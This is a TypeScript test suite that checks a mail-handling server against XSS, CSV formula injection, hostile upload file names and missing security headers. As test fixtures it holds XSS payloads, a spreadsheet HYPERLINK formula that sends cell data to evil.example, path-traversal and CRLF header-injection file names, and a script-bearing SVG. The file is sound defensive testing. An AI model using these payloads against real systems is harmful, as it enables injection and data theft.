import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { consolePages } from '../../server/console/serve.ts';
import { grantRole } from '../../server/store/users.ts';
import { PreviewView } from '../../shared/api.ts';
import { ADDON, type Installation, installation, testPolicy } from './support/installation.ts';
import { type Issuer, startIssuer } from './support/issuer.ts';

const HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)>';
/** What spreadsheets begin a formula with, also in full width; OWASP's list of CSV injection. */
const LEADS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const FORMULA = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const formula = (lead: string): string => `${lead}HYPERLINK("https://evil.example?"&A1,"x")`;

let folder: string;
let issuer: Issuer;
let it_: Installation;
let mailId: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'mailgps-hostile-'));
  await writeFile(join(folder, 'index.html'), '<!doctype html><title>page</title>');
  issuer = await startIssuer();
  it_ = await installation(issuer, {
    policy: hostilePolicy(),
    console: { clientId: ADDON, mint: null },
    consolePages: consolePages(folder),
  });
  mailId = await it_.take({ subject: `fees ${HOSTILE}`, from: `"${HOSTILE}" <ada@people.example>`, text: HOSTILE });
});
afterAll(async () => {
  await it_.close();
  await issuer.close();
  await rm(folder, { recursive: true, force: true });
});

/** Everything that an admin names is called by a script, and one category by a formula. */
function hostilePolicy() {
  const policy = testPolicy();
  const both = { fr: HOSTILE, en: HOSTILE };
  const [first] = policy.facts;
  return {
    ...policy,
    organisation: { ...policy.organisation, name: both },
    categories: policy.categories.map((category) => ({
      ...category,
      name: category.id === 'hours' ? { fr: formula('='), en: formula('=') } : both,
    })),
    people: policy.people.map((person) => ({ ...person, name: HOSTILE, function: both })),
    facts: [...policy.facts, ...(first ? [{ ...first, key: 'page', kind: 'text' as const, label: both, value: both }] : [])],
    templates: policy.templates.map((template) => ({
      ...template,
      subject: HOSTILE,
      body: `{{greeting}}\n\n${HOSTILE}\n\n{{fact.page}}`,
    })),
  };
}

const ID: Readonly<Record<string, string>> = {
  '/api/mails/:id': 'mail',
  '/api/templates/:id/diff': 'fees.fr',
  '/api/categories/:id': 'fees',
  '/api/categories/:id/names': 'fees',
  '/api/senders/:address': 'ada@people.example',
};

test('whatever strangers and admins wrote, no route gives a browser a page of it', async () => {
  const reads = it_.routes.filter(({ method, path }) => method === 'get' && path !== '/api/events');
  let told = 0;
  for (const { path } of reads) {
    const named = (ID[path] ?? 'x').replace(/^mail$/, mailId);
    for (const query of ['', `?version=1&to=1&key=${encodeURIComponent(HOSTILE)}`]) {
      const answer = await request(it_.app)
        .get(path.replace(/:\w+/, named) + query)
        .set({ authorization: `Bearer ${it_.tokens.admin}`, accept: 'text/html,*/*' })
        .buffer(true);
      const { location = null } = answer.headers;
      // A browser goes on from a redirect; the few words beside it are the library's own.
      if (location === null)
        expect([path, answer.type]).toEqual([
          path,
          expect.stringMatching(/^(?:application\/(?:problem\+)?json|text\/(?:csv|plain))$/),
        ]);
      else expect([path, location, answer.text]).toEqual([path, '/console/?link=used', expect.not.stringContaining('<script')]);
      expect([path, answer.headers['x-content-type-options']]).toEqual([path, 'nosniff']);
      if (answer.text.includes('<script>alert(1)')) told += 1;
    }
  }
  // Mails, one mail, home, categories, people, facts, templates, their differences, the pack, exports, the sender.
  expect(told).toBeGreaterThan(12);
  for (const path of [
    `/api/${HOSTILE}`,
    `/api/mails/${HOSTILE}`,
    `/console/${HOSTILE}`,
    '/%E0%A4%A',
    `/api/mails?q=${HOSTILE}`,
  ]) {
    const answer = await request(it_.app).get(encodeURI(path).replace('%25', '%')).set('accept', 'text/html');
    expect([path, answer.type]).toEqual([path, 'application/problem+json']);
    expect(answer.text).not.toContain('<script');
  }
});

test('a preview’s page is a string of an answer, in which what was filled in is text', async () => {
  const { status, type, body } = await it_.post(
    '/api/templates/preview',
    { categoryId: 'fees', language: 'fr', subject: HOSTILE, body: `{{greeting}}\n\n${HOSTILE}\n\n{{fact.page}}`, mailId },
    'admin',
  );
  expect([status, type]).toEqual([200, 'application/json']);
  const { html, text } = PreviewView.parse(body).rendered ?? { html: HOSTILE, text: '' };
  expect(text).toContain(HOSTILE);
  expect(html).toContain('&lt;script&gt;alert(1)');
  expect(html).not.toMatch(/<(?:script|img)/i);
});

test('no cell of any export begins a formula, whoever wrote it', async () => {
  const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  await grantRole(it_.ctx.store, 'formula@ecole.example', 'staff', it_.clock.now());
  const name = formula('@');
  const token = await issuer.sign({
    sub: 'sub-formula',
    email: 'formula@ecole.example',
    email_verified: true,
    hd: 'ecole.example',
    aud: ADDON,
    name,
  });
  for (const lead of LEADS) {
    const id = await it_.take({ subject: encoded(formula(lead)), from: `${encoded(formula(lead))} <f@people.example>` });
    const { revision } = (await it_.get(`/api/mails/${id}`)).body;
    const taken = request(it_.app).post(`/api/mails/${id}/assign`).set('authorization', `Bearer ${token}`);
    expect((await taken.send({ revision, personId: 'me' })).status).toBe(200);
  }
  await it_.take({ subject: 'hours please' });
  const exports = it_.routes.filter(({ path }) => path.endsWith('.csv'));
  expect(exports.map(({ path }) => path)).toEqual(expect.arrayContaining(['/api/mails.csv', '/api/audit.csv']));
  for (const { path } of exports) {
    const answer = await request(it_.app).get(path).set('authorization', `Bearer ${it_.tokens.admin}`).buffer(true);
    expect([path, answer.type, answer.headers['content-disposition']]).toEqual([
      path,
      'text/csv',
      expect.stringMatching(/^attachment; filename="?[\w.-]+\.csv"?$/),
    ]);
    const cells: string[] = parse(answer.text, { bom: true, record_delimiter: '\r\n' }).flat();
    expect(cells.length).toBeGreaterThan(LEADS.length);
    expect([path, cells.filter((cell) => FORMULA.test(cell))]).toEqual([path, []]);
    if (path === '/api/mails.csv')
      for (const held of [formula('='), formula('+'), formula('-'), formula('@')]) expect(cells).toContain(`'${held}`);
  }
});

describe('an uploaded file', () => {
  const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n');
  const upload = (name: string, bytes: Buffer) =>
    request(it_.app)
      .post('/api/files')
      .query({ name })
      .set({ authorization: `Bearer ${it_.tokens.admin}`, 'content-type': 'application/octet-stream' })
      .send(bytes);
  const fetched = (id: string) => request(it_.app).get(`/api/files/${id}`).set('authorization', `Bearer ${it_.tokens.staff}`);

  test.each([
    ['a path', '../../../etc/passwd', 'passwd.pdf'],
    ['a path of Windows', '..\\..\\boot.ini', 'boot.ini.pdf'],
    ['a second ending', 'plan.pdf.exe', 'plan.pdf.exe.pdf'],
    ['the ending of a page', 'plan.html', 'plan.html.pdf'],
    ['a NUL before the ending', 'plan.exe\u0000.pdf', 'plan.exe.pdf'],
    ['a new header line', 'plan.pdf"\r\nContent-Type: text/html\r\n\r\n<script>.pdf', 'html -script-.pdf'],
    ['a turned direction', 'plan\u202Efdp.exe', 'planfdp.exe.pdf'],
    ['invisible signs', 'pl\u200Ban\u2066.pdf', 'plan.pdf'],
    [
      'quotes and markup',
      `a";filename*=x'';<img src=x onerror=alert(1)>.pdf`,
      `a-;filename-=x'';-img src=x onerror=alert(1)-.pdf`,
    ],
    ['a name that Windows keeps', 'aux.pdf', '_aux.pdf'],
    ['1,000 letters', 'a'.repeat(1_000), `${'a'.repeat(96)}.pdf`],
  ])('called by %s has a name that is only a name, and is saved, never shown', async (_what, given, kept) => {
    const bytes = Buffer.concat([PDF, Buffer.from(given)]);
    const { status, body } = await upload(given, bytes);
    expect([status, body.name]).toEqual([200, kept]);
    const id = createHash('sha256').update(bytes).digest('hex');
    expect([...it_.blobs.keys()]).toContain(`files/${id}`);
    const { headers } = await fetched(id);
    expect(headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'x-content-type-options': 'nosniff',
      'content-disposition': expect.stringMatching(
        /^attachment; filename=(?:"[^"\r\n]*"|[\w.-]+)(?:; filename\*=UTF-8''[\w.%!#$&+^`|~-]+)?$/,
      ),
    });
    expect(headers['content-security-policy']).toContain("frame-ancestors 'self'");
  });

  test.each<[string, string, Buffer]>([
    ['has no name', '', PDF],
    ['has a name of 1,001 letters', 'a'.repeat(1_001), PDF],
    ['is a page called a text', 'plan.txt', Buffer.from(`<html>${HOSTILE}`)],
    ['is a drawing with a script', 'plan.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['is a program called a PDF', 'plan.pdf', Buffer.from('MZ\u0090\u0000\u0003')],
    ['is a text with a NUL', 'plan.csv', Buffer.from('a,b\n1,\u00002\n')],
  ])('that %s is refused and not kept', async (_what, name, bytes) => {
    const before = it_.blobs.size;
    const { status, type } = await upload(name, bytes);
    expect([status, type]).toEqual([400, 'application/problem+json']);
    expect(it_.blobs.size).toBe(before);
  });
});

test.each([
  ['/', 'same-origin', "frame-ancestors 'self'"],
  ['/api/me', 'same-origin', "frame-ancestors 'self'"],
  ['/console/', 'same-origin-allow-popups', "frame-ancestors 'none'"],
  ['/console/nothing.js', 'same-origin-allow-popups', "frame-ancestors 'none'"],
])('%s tells the browser not to guess, frame, or hand on where it was', async (path, opener, frames) => {
  const { headers } = await request(it_.app).get(path);
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': opener,
    'cross-origin-resource-policy': 'same-origin',
    'strict-transport-security': expect.stringContaining('max-age='),
  });
  expect([path, headers['content-security-policy']]).toEqual([path, expect.stringContaining('default-src')]);
  expect(headers['content-security-policy']).toContain(frames);
  expect(headers['x-powered-by']).toBeUndefined();
});
